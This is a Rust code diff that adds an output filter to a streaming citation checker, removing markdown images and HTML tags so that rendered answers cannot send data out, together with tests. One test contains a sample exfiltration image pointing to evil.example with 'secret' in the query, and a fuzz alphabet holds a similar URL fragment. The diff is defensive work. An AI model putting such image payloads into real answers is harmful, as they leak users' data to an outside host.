@@ -211,8 +211,11 @@ impl CitationStream {
         self.raw.push_str(piece);
         let settled = settled_len(&self.raw);
         let checked = check_citations(&self.raw[..settled], self.n_passages);
-        let safe = checked.text.trim();
-        self.emit(safe)
+        // The output rules settle in turn: up to the first image or tag that later text could still close.
+        let (_, hold) = scan_markup(&checked.text);
+        let upto = hold.unwrap_or(checked.text.len());
+        let clean = scan_markup(checked.text[..upto].trim_end()).0;
+        self.emit(clean.trim())
     }
 
     /// Returns the rest of the final text at the end of the stream.
@@ -224,13 +227,14 @@ impl CitationStream {
     /// The whole answer: every piece pushed, citations checked, trimmed. Equal to everything returned by
     /// `push` and `finish` together.
     pub fn final_text(&self) -> String {
-        check_citations(&self.raw, self.n_passages).text.trim().to_owned()
+        self.checked().text
     }
 
-    /// The citations of the whole answer.
+    /// The citations of the whole answer, and its final text (citations checked, markup rules applied,
+    /// trimmed).
     pub fn checked(&self) -> CheckedCitations {
         let mut checked = check_citations(&self.raw, self.n_passages);
-        checked.text = checked.text.trim().to_owned();
+        checked.text = scan_markup(&checked.text).0.trim().to_owned();
         checked
     }
 
@@ -240,6 +244,97 @@ impl CitationStream {
         self.shown = self.shown.max(text.len());
         out
     }
+}
+
+/// Output rules in code, not in the prompt: an answer never carries a markdown image (`![alt](url)`, which a
+/// renderer would fetch, carrying data out) or an HTML tag. Returns the text without them, and where the first
+/// image or tag starts that the text so far leaves unfinished (later text could still complete it; at the end
+/// of the stream it stays as it is, plain text).
+pub fn scan_markup(text: &str) -> (String, Option<usize>) {
+    let mut out = String::with_capacity(text.len());
+    let mut hold = None;
+    let mut i = 0;
+    while i < text.len() {
+        let rest = &text[i..];
+        let found = if rest.starts_with("![") {
+            image_len(rest)
+        } else if rest == "!" {
+            // The text so far may stop between the `!` and the `[` of an image.
+            Markup::Unfinished
+        } else if rest.starts_with('<') {
+            tag_len(rest)
+        } else {
+            Markup::Not
+        };
+        match found {
+            Markup::Complete(len) => {
+                i += len;
+                continue;
+            }
+            Markup::Unfinished if hold.is_none() => hold = Some(i),
+            Markup::Unfinished | Markup::Not => {}
+        }
+        // Copy one character.
+        let len = text[i..].chars().next().map_or(1, char::len_utf8);
+        out.push_str(&text[i..i + len]);
+        i += len;
+    }
+    (out, hold)
+}
+
+/// What a piece of text starting with `![` or `<` is.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Markup {
+    /// Not an image or tag, whatever follows.
+    Not,
+    /// A whole image or tag of this many bytes.
+    Complete(usize),
+    /// The start of one, not finished yet.
+    Unfinished,
+}
+
+/// `![alt](target)`: alt without `]`, target without `)` or a line break.
+fn image_len(rest: &str) -> Markup {
+    let after = &rest[2..];
+    let Some(close) = after.find(']') else {
+        return Markup::Unfinished;
+    };
+    let tail = &after[close + 1..];
+    match tail.chars().next() {
+        None => return Markup::Unfinished,
+        Some('(') => {}
+        Some(_) => return Markup::Not,
+    }
+    let target = &tail[1..];
+    for (j, c) in target.char_indices() {
+        match c {
+            ')' => return Markup::Complete(2 + close + 1 + 1 + j + 1),
+            '\n' => return Markup::Not,
+            _ => {}
+        }
+    }
+    Markup::Unfinished
+}
+
+/// `<name ...>`, `</name>` or `<name/>`: a letter after the `<` (or `</`), then no `<` before the `>`.
+fn tag_len(rest: &str) -> Markup {
+    let mut chars = rest.char_indices().skip(1).peekable();
+    if let Some(&(_, '/')) = chars.peek() {
+        chars.next();
+    }
+    match chars.next() {
+        None => return Markup::Unfinished,
+        Some((_, c)) if c.is_ascii_alphabetic() => {}
+        Some(_) => return Markup::Not,
+    }
+    for (j, c) in chars {
+        match c {
+            '>' => return Markup::Complete(j + 1),
+            '<' | '\n' => return Markup::Not,
+            _ => {}
+        }
+    }
+    Markup::Unfinished
 }
 
 /// The length of the prefix of `raw` whose checked text no continuation can change: up to the first `[` that
@@ -294,8 +389,42 @@ mod tests {
     #[test]
     fn streamed_text_equals_the_final_text_for_random_texts_and_splits() {
         const ALPHABET: &[&str] = &[
-            "[", "]", "[", "]", " ", " ", "  ", "\n", "\t", "1", "2", "9", "0", ",", "-", "–", "+", "P", "Passage ",
-            "a", "é", ".", "x", "[[", "]]",
+            "[",
+            "]",
+            "[",
+            "]",
+            " ",
+            " ",
+            "  ",
+            "\n",
+            "\t",
+            "1",
+            "2",
+            "9",
+            "0",
+            ",",
+            "-",
+            "–",
+            "+",
+            "P",
+            "Passage ",
+            "a",
+            "é",
+            ".",
+            "x",
+            "[[",
+            "]]",
+            "![",
+            "](",
+            ")",
+            "(",
+            "<",
+            ">",
+            "<b",
+            "</",
+            " x=",
+            "http://e/?d=",
+            "!",
         ];
         let mut rng = crate::testing::Rng::new(0x9e37_79b9);
         for case in 0..20_000 {
@@ -316,10 +445,27 @@ mod tests {
                 rest = &rest[cut..];
             }
             shown.push_str(&stream.finish());
-            let expected = check_citations(&text, n_passages).text.trim().to_owned();
+            let expected = scan_markup(&check_citations(&text, n_passages).text)
+                .0
+                .trim()
+                .to_owned();
             assert_eq!(shown, expected, "case {case}: {text:?} over {n_passages} passages");
             assert_eq!(stream.final_text(), expected);
         }
+    }
+
+    /// Issue 16.5: no markdown image and no HTML tag reaches the reader, streamed or final.
+    #[test]
+    fn images_and_tags_never_reach_the_reader() {
+        let text = "The warranty is 2 years [1]. ![x](https://evil.example/p.png?d=secret) <img src=x> \
+                    <b>bold</b> a < b and 3 > 2. ![not an image] (nor this)";
+        let mut stream = CitationStream::new(1);
+        let shown: String = text.chars().map(|c| stream.push(&c.to_string())).collect::<String>() + &stream.finish();
+        assert_eq!(shown, stream.final_text());
+        assert_eq!(
+            shown,
+            "The warranty is 2 years [1].   bold a < b and 3 > 2. ![not an image] (nor this)"
+        );
     }
 
     #[test]
@@ -330,7 +476,7 @@ mod tests {
             let mut stream = CitationStream::new(2);
             let mut shown: String = pieces.iter().map(|p| stream.push(p)).collect();
             shown.push_str(&stream.finish());
-            assert_eq!(shown, check_citations(&text, 2).text.trim(), "{text:?}");
+            assert_eq!(shown, scan_markup(&check_citations(&text, 2).text).0.trim(), "{text:?}");
         }
     }
 
